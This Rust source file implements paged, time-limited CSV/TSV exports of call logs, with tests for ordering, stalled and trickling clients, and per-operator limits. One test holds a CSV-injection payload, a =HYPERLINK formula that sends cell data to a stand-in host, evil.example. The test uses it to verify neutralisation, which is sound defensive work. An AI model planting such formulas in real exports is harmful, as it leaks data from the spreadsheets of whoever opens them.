//! CSV/TSV call-log exports, streamed without holding anything for long:
//!
//! - rows are read in pages of [`PAGE_ROWS`], keyset-paged by `(started_at, call_id)`,
//!   each page its own short read on the blocking pool: no read snapshot stays open
//!   while the client is slow (an open snapshot pins SQLite's WAL, which then grows
//!   without bound and is never checkpointed); a page whose filter matches too few
//!   rows to fill it within the search time (`api.search_timeout_seconds`) is stopped
//!   by the store and the export cut, so no page's read lasts longer either;
//! - pages go to the socket through a small channel; a client that takes no data for
//!   `api.export_send_timeout_seconds` gets its export cut (the body ends in an error,
//!   never in a clean end that would pass for a complete file), and so does an export
//!   still streaming after `api.export_max_seconds`, however steadily its client reads
//!   (a trickle would otherwise hold its place for days);
//! - at most `api.max_exports` run at once, `api.max_exports_per_operator` of one
//!   operator (a permit held by the exporter task): the rest are answered 503 by the
//!   handler.

use crate::calls::{fields, write_row, Format, COLUMNS};
use crate::metrics::{ApiMetrics, Held, ReasonLabel};
use crate::running::RunPermit;
use axum::body::{Body, Bytes};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::mpsc::error::SendTimeoutError;
use tsunagu_store::{CallQuery, Store, StoreError};

/// Rows read per page (one short read transaction each).
const PAGE_ROWS: usize = 256;

/// What the exporter hands the response body.
enum Piece {
    Data(Bytes),
    /// Every row was sent: the body may end cleanly.
    End,
    /// The store failed mid-export.
    Failed(String),
}

/// Everything an export needs once the handler has returned.
pub struct Export {
    pub store: Arc<dyn Store>,
    pub query: CallQuery,
    pub format: Format,
    pub send_timeout: Duration,
    /// How long the export may stream in all.
    pub max_duration: Duration,
    /// How long one page may read the store.
    pub page_timeout: Duration,
    pub metrics: ApiMetrics,
    pub permit: RunPermit,
}

/// One page of rows, formatted, and where the next page starts.
struct Page {
    text: String,
    rows: usize,
    last: Option<(i64, String)>,
}

fn read_page(store: &dyn Store, query: &CallQuery, format: Format) -> tsunagu_store::Result<Page> {
    let mut page = Page {
        text: String::with_capacity(64 * 1024),
        rows: 0,
        last: None,
    };
    store.scan_calls(query, &mut |r| {
        write_row(&mut page.text, &fields(&r), format);
        page.rows += 1;
        page.last = Some((r.started_at, r.call_id));
        true
    })?;
    Ok(page)
}

impl Export {
    /// The streaming response; the rows are produced by a task of their own.
    pub fn respond(self) -> Response {
        let (tx, rx) = tokio::sync::mpsc::channel::<Piece>(4);
        let format = self.format;
        tokio::spawn(self.produce(tx));
        let body = futures_util::stream::unfold((rx, false), |(mut rx, over)| async move {
            if over {
                return None;
            }
            match rx.recv().await {
                Some(Piece::Data(b)) => Some((Ok(b), (rx, false))),
                Some(Piece::End) => None,
                Some(Piece::Failed(e)) => Some((Err(std::io::Error::other(e)), (rx, true))),
                // The exporter gave up (the client was too slow): a broken transfer.
                None => Some((Err(std::io::Error::other("export cut")), (rx, true))),
            }
        });
        let (ctype, ext) = match format {
            Format::Tsv => ("text/tab-separated-values; charset=utf-8", "tsv"),
            _ => ("text/csv; charset=utf-8", "csv"),
        };
        (
            StatusCode::OK,
            [
                (header::CONTENT_TYPE, ctype.to_string()),
                (
                    header::CONTENT_DISPOSITION,
                    format!("attachment; filename=\"calls.{ext}\""),
                ),
            ],
            Body::from_stream(body),
        )
            .into_response()
    }

    async fn produce(self, tx: tokio::sync::mpsc::Sender<Piece>) {
        let Export {
            store,
            query,
            format,
            send_timeout,
            max_duration,
            page_timeout,
            metrics,
            permit,
        } = self;
        let _active = Held::new(&metrics.exports_active);
        // Declared after `_active`, so dropped before it: the place is free by the time
        // the gauge says no export runs.
        let _permit = permit;
        let cut_at = tokio::time::Instant::now() + max_duration;
        let cut = |reason: &'static str| {
            metrics
                .exports_cut
                .get_or_create(&ReasonLabel { reason })
                .inc();
            tracing::info!(reason, "call export cut");
        };
        let send = |piece: Piece| {
            let tx = tx.clone();
            async move {
                // The client's time to take this piece: the stall timeout, or what
                // is left of the export's whole time if that is less.
                let left = cut_at.saturating_duration_since(tokio::time::Instant::now());
                match tx.send_timeout(piece, send_timeout.min(left)).await {
                    Ok(()) => true,
                    Err(SendTimeoutError::Timeout(_)) if left < send_timeout => {
                        cut("too_long");
                        false
                    }
                    Err(SendTimeoutError::Timeout(_)) => {
                        cut("stalled");
                        false
                    }
                    Err(SendTimeoutError::Closed(_)) => false,
                }
            }
        };
        let mut head = String::new();
        write_row(&mut head, COLUMNS, format);
        if !send(Piece::Data(Bytes::from(head))).await {
            return;
        }
        let mut remaining = query.limit;
        let mut after = query.after.clone();
        loop {
            let rows = remaining.map_or(PAGE_ROWS, |r| r.min(PAGE_ROWS));
            if rows == 0 {
                break;
            }
            let mut q = query.clone();
            q.after = after.take();
            q.limit = Some(rows);
            // A page reads for the search time at most, and never past the export's
            // end (which has come when `left` is zero: the store then stops at once).
            let left = cut_at.saturating_duration_since(tokio::time::Instant::now());
            q.deadline = Some(std::time::Instant::now() + page_timeout.min(left));
            let s = store.clone();
            let page = tokio::task::spawn_blocking(move || read_page(&*s, &q, format))
                .await
                .unwrap_or_else(|e| Err(StoreError::Unavailable(e.to_string())));
            let page = match page {
                Ok(p) => p,
                Err(StoreError::TimedOut(_)) => {
                    let (why, text) = if left <= page_timeout {
                        (
                            "too_long",
                            "this export ran for its whole time: export the rest from its last row",
                        )
                    } else {
                        ("slow_page", "a page of this export read the store for too long: narrow it with from/to")
                    };
                    cut(why);
                    // Without waiting (and without counting a second cut): if the client
                    // has no room for it, the dropped sender ends the body in an error.
                    let _ = tx.try_send(Piece::Failed(text.into()));
                    return;
                }
                Err(e) => {
                    let _ = send(Piece::Failed(e.to_string())).await;
                    return;
                }
            };
            let full = page.rows == rows;
            if page.rows > 0 && !send(Piece::Data(Bytes::from(page.text))).await {
                return;
            }
            if !full {
                break;
            }
            remaining = remaining.map(|r| r.saturating_sub(page.rows));
            after = page.last;
        }
        let _ = send(Piece::End).await;
    }
}

#[cfg(test)]
mod tests {
    use crate::metrics::{ApiMetrics, ReasonLabel};
    use crate::testing::{api, api_with};
    use axum::http::StatusCode;
    use futures_util::StreamExt;
    use std::collections::BTreeMap;
    use std::time::Duration;
    use tsunagu_config::ApiConfig;
    use tsunagu_store::conformance::sample_call;
    use tsunagu_store::{CallRecord, Store};

    fn calls(op: &str, adv: &str, n: usize, from: i64) -> Vec<CallRecord> {
        (0..n)
            .map(|i| {
                let mut c = sample_call(op, adv, from + (i as i64 / 3));
                c.call_id = format!("call_{i:06}");
                c
            })
            .collect()
    }

    /// An export's body as a client reads it, pausing `pause` after each chunk: the
    /// bytes, the chunks, and the error it ended in (None: a clean end).
    async fn read_body(
        r: axum::response::Response,
        pause: Duration,
    ) -> (Vec<u8>, usize, Option<axum::Error>) {
        let mut body = r.into_body().into_data_stream();
        let (mut bytes, mut chunks) = (Vec::new(), 0);
        loop {
            match body.next().await {
                Some(Ok(chunk)) => {
                    bytes.extend_from_slice(&chunk);
                    chunks += 1;
                    tokio::time::sleep(pause).await;
                }
                Some(Err(e)) => return (bytes, chunks, Some(e)),
                None => return (bytes, chunks, None),
            }
        }
    }

    fn cuts(m: &ApiMetrics, reason: &'static str) -> u64 {
        m.exports_cut.get_or_create(&ReasonLabel { reason }).get()
    }

    fn ids_of_csv(text: &str) -> Vec<String> {
        text.lines()
            .skip(1)
            .map(|l| l.split(',').next().unwrap().to_string())
            .collect()
    }

    /// Pages chain by (started_at, call_id) without gaps or repeats across many pages
    /// (several rows share a start time), in both orders, with `limit` and `cursor`.
    #[tokio::test]
    async fn exports_page_through_everything_in_order() {
        let a = api();
        a.store
            .insert_calls(&calls(&a.operator, &a.advertiser, 1000, 1_000_000), &[])
            .unwrap();
        let all: Vec<String> = (0..1000).map(|i| format!("call_{i:06}")).collect();
        let csv = a.get("/v1/calls?format=csv").await;
        assert_eq!(csv.status, StatusCode::OK);
        assert_eq!(ids_of_csv(&csv.text()), all);
        let desc = a.get("/v1/calls?format=tsv&sort=-started_at").await;
        let mut reversed = all.clone();
        reversed.reverse();
        let tsv_ids: Vec<String> = desc
            .text()
            .lines()
            .skip(1)
            .map(|l| l.split('\t').next().unwrap().to_string())
            .collect();
        assert_eq!(tsv_ids, reversed);
        let some = a.get("/v1/calls?format=csv&limit=700").await;
        assert_eq!(ids_of_csv(&some.text()), all[..700]);
        let after = a
            .get("/v1/calls?format=csv&cursor=1000100.call_000300")
            .await;
        assert_eq!(ids_of_csv(&after.text()), all[301..]);
        // A limit past i64::MAX is "everything", not an SQL error.
        let huge = a
            .get("/v1/calls?format=csv&limit=18446744073709551615")
            .await;
        assert_eq!(huge.status, StatusCode::OK);
        assert_eq!(ids_of_csv(&huge.text()), all);
    }

    /// OWASP CSV injection: a hostile caller number and tracking parameter are shown as
    /// text in CSV and TSV; JSON keeps them as they came.
    #[tokio::test]
    async fn formula_cells_are_neutralised_in_csv_only() {
        let a = api();
        let mut c = sample_call(&a.operator, &a.advertiser, 5_000);
        c.caller_number = "=HYPERLINK(\"http://evil.example/?\"&A1,\"call\")".into();
        c.tracking_params = BTreeMap::from([("keyword".to_string(), "x".to_string())]);
        c.ivr_digits = Some("+1".into());
        c.judgement_digit = Some("@2".into());
        c.trunk = Some("-3".into());
        a.store.insert_calls(&[c], &[]).unwrap();
        let csv = a.get("/v1/calls?format=csv").await.text();
        let row = csv.lines().nth(1).unwrap();
        assert!(
            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"call\"\")\","),
            "{row}"
        );
        for cell in ["'+1", "'@2", "'-3"] {
            assert!(row.split(',').any(|c| c == cell), "{cell} in {row}");
        }
        let tsv = a.get("/v1/calls?format=tsv").await.text();
        let row = tsv.lines().nth(1).unwrap();
        assert!(
            row.split('\t').any(|c| c.starts_with("'=HYPERLINK(")),
            "{row}"
        );
        let json = a.get("/v1/calls").await.json();
        assert_eq!(
            json["calls"][0]["caller_number"],
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"call\")"
        );
        assert_eq!(json["calls"][0]["ivr_digits"], "+1");
    }

    /// Attempt times from the store meet the call's start with checked arithmetic.
    #[tokio::test]
    async fn extreme_times_do_not_overflow() {
        let a = api();
        let mut c = sample_call(&a.operator, &a.advertiser, 0);
        c.started_at = i64::MAX - 10;
        c.attempts[0].started_at = i64::MIN;
        a.store.insert_calls(&[c], &[]).unwrap();
        let json = a
            .get("/v1/calls?from=-9223372036854775808&cursor=-9223372036854775808.x")
            .await;
        assert_eq!(json.status, StatusCode::OK, "{}", json.text());
        assert_eq!(
            json.json()["calls"][0]["attempts"][0]["offset_ms"],
            i64::MIN
        );
        assert_eq!(a.get("/v1/calls?format=csv").await.status, StatusCode::OK);
    }

    /// A client that stops reading: the export is cut after the send timeout (the body
    /// then ends in an error, not a clean end), its permit is free again, and while it
    /// waits no read snapshot pins the WAL.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_stalled_export_is_cut_and_pins_nothing() {
        let config = ApiConfig {
            max_exports: 1,
            max_exports_per_operator: 2,
            ..ApiConfig::default()
        };
        let a = api_with(&config, |d| {
            d.export_send_timeout = Duration::from_millis(300)
        });
        a.store
            .insert_calls(&calls(&a.operator, &a.advertiser, 3000, 1_000_000), &[])
            .unwrap();
        let key = a.key.clone();
        let stalled = a
            .call(&a.router, "GET", "/v1/calls?format=csv", Some(&key), "")
            .await;
        assert_eq!(stalled.status(), StatusCode::OK);
        // The second export waits for none: 503 with Retry-After while one runs.
        let refused = a.get("/v1/calls?format=csv").await;
        assert_eq!(refused.status, StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(refused.headers["retry-after"], "5");
        assert_eq!(a.state.defences.metrics.exports_refused.get(), 1);
        // A write after the export began, then a checkpoint: a reader still on an
        // older snapshot would keep it from completing (the WAL pinned).
        let mut late = sample_call(&a.operator, &a.advertiser, 9_000_000);
        late.call_id = "call_late".into();
        a.store.insert_calls(&[late], &[]).unwrap();
        assert!(a.store.checkpoint().unwrap(), "no read snapshot is open");
        let m = a.state.defences.metrics.clone();
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while cuts(&m, "stalled") == 0 {
            assert!(std::time::Instant::now() < deadline, "never cut");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert_eq!(cuts(&m, "too_long"), 0);
        let (bytes, _, end) = read_body(stalled, Duration::ZERO).await;
        let got = bytes.len();
        assert!(
            end.is_some(),
            "a cut export must not end like a complete one"
        );
        assert!(got > 0);
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while m.exports_active.get() != 0 {
            assert!(std::time::Instant::now() < deadline, "permit held");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert_eq!(a.get("/v1/calls?format=csv").await.status, StatusCode::OK);
    }

    /// A client that keeps reading, a little at a time, never trips the stall timeout:
    /// `api.export_max_seconds` cuts it (the body ends in an error, not a clean end)
    /// and frees its place.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_trickling_export_is_cut_at_its_time_limit() {
        let a = api_with(&ApiConfig::default(), |d| {
            d.export_max_duration = Duration::from_millis(400)
        });
        a.store
            .insert_calls(&calls(&a.operator, &a.advertiser, 3000, 1_000_000), &[])
            .unwrap();
        let key = a.key.clone();
        let started = std::time::Instant::now();
        let slow = a
            .call(&a.router, "GET", "/v1/calls?format=csv", Some(&key), "")
            .await;
        assert_eq!(slow.status(), StatusCode::OK);
        // One page every 100 ms: well inside the 30 s stall timeout.
        let (bytes, chunks, end) = read_body(slow, Duration::from_millis(100)).await;
        let got = bytes.len();
        assert!(
            end.is_some(),
            "a cut export must not end like a complete one"
        );
        assert!(
            chunks >= 2 && got > 0,
            "it streamed before the cut: {chunks} chunks"
        );
        // 3,000 rows are 12 pages: the whole export would take over 1.2 s.
        assert!(started.elapsed() < Duration::from_secs(5));
        let m = a.state.defences.metrics.clone();
        assert_eq!(cuts(&m, "too_long"), 1);
        assert_eq!(cuts(&m, "stalled"), 0);
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while m.exports_active.get() != 0 {
            assert!(std::time::Instant::now() < deadline, "permit held");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert_eq!(a.state.defences.exports.running(), 0);
    }

    /// One operator's exports (here one whose client never reads) take at most
    /// `api.max_exports_per_operator` places: its next is refused 503, another
    /// operator's export still runs.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn one_operator_cannot_take_every_export() {
        let config = ApiConfig {
            max_exports: 3,
            max_exports_per_operator: 1,
            ..ApiConfig::default()
        };
        let a = api_with(&config, |_| {});
        a.store
            .insert_calls(&calls(&a.operator, &a.advertiser, 3000, 1_000_000), &[])
            .unwrap();
        let key = a.key.clone();
        let held = a
            .call(&a.router, "GET", "/v1/calls?format=csv", Some(&key), "")
            .await;
        assert_eq!(held.status(), StatusCode::OK);
        let refused = a.get("/v1/calls?format=tsv").await;
        assert_eq!(refused.status, StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(refused.headers["retry-after"], "5");
        assert!(
            refused.text().contains("this operator"),
            "{}",
            refused.text()
        );
        assert_eq!(a.state.defences.metrics.exports_refused.get(), 1);

        let other = a.store.create_operator("other").unwrap();
        let other_key = tsunagu_store::new_api_key();
        a.store
            .add_api_key(&other.id, &tsunagu_store::hash_api_key(&other_key), "tsk_o")
            .unwrap();
        let theirs = a
            .send("GET", "/v1/calls?format=csv", Some(&other_key), "")
            .await;
        assert_eq!(theirs.status, StatusCode::OK, "{}", theirs.text());
        assert_eq!(
            theirs.text().lines().count(),
            1,
            "the header only: no calls of theirs"
        );
        drop(held);
    }

    /// A page whose filter finds too few rows to fill it in the search time is stopped
    /// by the store (here a time of zero), and the export cut: no page's read snapshot
    /// lasts longer than a search's, whatever the filter.
    #[tokio::test]
    async fn an_export_page_that_reads_too_long_is_stopped() {
        let a = api_with(&ApiConfig::default(), |d| d.search_timeout = Duration::ZERO);
        a.store
            .insert_calls(&calls(&a.operator, &a.advertiser, 10, 1_000_000), &[])
            .unwrap();
        let key = a.key.clone();
        let r = a
            .call(&a.router, "GET", "/v1/calls?format=csv", Some(&key), "")
            .await;
        assert_eq!(r.status(), StatusCode::OK);
        let (text, _, end) = read_body(r, Duration::ZERO).await;
        assert!(
            end.is_some(),
            "a stopped export must not end like a complete one"
        );
        assert_eq!(
            String::from_utf8_lossy(&text).lines().count(),
            1,
            "the header only"
        );
        let m = a.state.defences.metrics.clone();
        assert_eq!(cuts(&m, "slow_page"), 1);
        assert_eq!(a.state.defences.exports.running(), 0);
    }
}
